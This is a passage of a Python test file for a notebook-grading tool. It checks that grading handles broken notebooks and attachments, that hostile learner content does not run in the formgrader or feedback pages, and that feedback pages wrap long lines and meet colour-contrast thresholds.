        made = graded_notebook(notebook, staged, Run(((),), (), {}), Config(), {})
        assert nbformat.reads(made.text.decode(), as_version=4).cells[0].source.startswith(shown)


def test_a_file_that_is_no_notebook_is_said_to_be_none() -> None:
    answer = Cell("answer", "markdown", "why", "why", "Because.", "", 2.0, (), entry("why", solution=True))
    notebook = Notebook(NAME, (answer,), {}, (), (), ())
    for raw, says in ((b"{", True), (b'{"cells": []}', False)):
        made = graded_notebook(notebook, stage(notebook, raw), Run(((),), (), {}), Config(), {})
        page, _ = Feedback().from_notebook_node(nbformat.reads(made.text.decode(), as_version=4))
        assert ("cannot be read as a notebook" in words(page)) is says


def test_another_picture_is_another_answer() -> None:
    answer = Cell("answer", "markdown", "why", "why", "Because.", "", 2.0, (), entry("why", solution=True))
    notebook = Notebook(NAME, (answer,), {}, (), (), ())
    digests = set()
    for attachments in ({}, {"a": {"image/gif": "R0lGODlhAQABAA=="}}, {"a": {"image/gif": "R0lGODlhAgABAA=="}}):
        staged = Staged((StagedCell("markdown", "![](attachment:a)", 0, attachments),), (), True)
        made = graded_notebook(notebook, staged, Run(((),), (), {}), Config(), {})
        digests.add(made.answers["why"])
    assert len(digests) == 3


def looked(tab: Page) -> Any:
    return SimpleNamespace(
        forbidden=tab.evaluate(FORBIDDEN),
        text=tab.locator("body").inner_text(),
        marked=tab.evaluate("document.getElementById('check-double')?.tagName"),
    )


def test_nothing_of_a_learners_runs_in_formgrader(visit: Any) -> None:
    seen = visit(formgrader(cleaned(hostile())), looked)
    assert (seen.ran, seen.asked, seen.found.forbidden) == (set(), [], [])
    assert "The end is reached." in seen.found.text
    assert seen.found.marked == "INPUT"


@pytest.mark.parametrize("policy", ["policy", "no policy"])
def test_nothing_of_a_learners_runs_in_feedback(visit: Any, policy: str) -> None:
    # Without the page's own policy, cleaning alone has to hold; the notebook is as a learner's process left it.
    page, _ = Feedback().from_notebook_node(hostile())
    if policy == "no policy":
        page, taken = re.subn(r"<meta http-equiv=.Content-Security-Policy.[^>]*>", "", page)
        assert taken == 1
    seen = visit(page, looked)
    assert (seen.ran, seen.asked, seen.found.forbidden) == (set(), [], [])
    assert "The end is reached." in seen.found.text


def test_they_run_where_nothing_is_cleaned(visit: Any) -> None:
    crashes = {"stream-colour", "md-surrogate", "widget"}  # formgrader cannot show these at all
    swallow = {"md-comment", "md-cdata", "md-processing", "base", "closing", "md-split"}
    notebook = hostile()
    notebook.cells = [
        cell
        for cell in notebook.cells
        if not any(
            name in (cell.source, *(n for n, t in MARKDOWN.items() if t == cell.source)) for name in crashes | swallow
        )
    ]
    seen = visit(formgrader(notebook), looked)
    asked = {urlsplit(address).path.strip("/").partition(".")[0] for address in seen.asked}
    expected = {*html_outputs(), *OTHER_OUTPUTS, *MARKDOWN}
    assert len((seen.ran | asked) & expected) >= 45, sorted(expected - seen.ran - asked)
    assert seen.found.marked != "INPUT"


def test_a_long_line_of_a_test_wraps_in_both_pages(visit: Any) -> None:
    told = "✗ a share (1): a share is a fraction from 0 to 1 & " + "not a percentage, " * 20
    said = f"told to the instructor: {told}"
    cell = new_code_cell("check()", metadata=entry("check", grade=True, locked=True, points=1.0, score=0.0))
    cell.outputs = [
        new_output("stream", name="stdout", text=f"printed {told}"),
        new_output("display_data", {"text/plain": said}, metadata={"moi": {"for": "instructor"}}),
    ]
    cut = "() => [...document.querySelectorAll('pre')].filter(pre => pre.scrollWidth > pre.clientWidth + 1).length"
    notebook = new_notebook(cells=[cell])
    for page, shown in ((formgrader(notebook), 2), (Feedback().from_notebook_node(notebook)[0], 1)):
        assert words(page).count(told.strip()) == shown
        assert visit(page, lambda tab: tab.evaluate(cut)).found == 0


@pytest.mark.parametrize("student", STUDENTS)
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [360, 1280])
def test_feedback_fits_the_screen_and_can_be_read(
    visit: Any, pages: dict[str, str], student: str, scheme: str, width: int
) -> None:
    seen = visit(pages[student], readable, viewport={"width": width, "height": 800}, color_scheme=scheme)
    assert (seen.ran, seen.asked) == (set(), [])
    assert seen.found["wide"] <= width
    assert [low for low in seen.found["contrasts"] if low[0] < 4.5] == []


def readable(tab: Page) -> Any:
    tab.evaluate("document.querySelectorAll('details').forEach(details => details.open = true)")
    return tab.evaluate(CONTRASTS)


CONTRASTS = """() => {
    const parse = text => (text.match(/[\\d.]+/g) ?? []).map(Number);
    const light = ([r, g, b]) => [r, g, b].map(v => v / 255)
        .map(v => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
        .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
    const behind = element => {
        for (let at = element; at; at = at.parentElement) {
            const colour = parse(getComputedStyle(at).backgroundColor);
            if (colour.length == 3) return colour;
        }
        return [255, 255, 255];
    };
    const contrasts = [];
    const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walk.nextNode()) {
        const element = walk.currentNode.parentElement;
        if (!walk.currentNode.data.trim() || !element.checkVisibility()) continue;
        const [a, b] = [light(parse(getComputedStyle(element).color)), light(behind(element))];
        const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
        contrasts.push([Math.round(ratio * 10) / 10, element.className, walk.currentNode.data.slice(0, 40)]);
    }
    return {wide: document.documentElement.scrollWidth, contrasts};
}"""
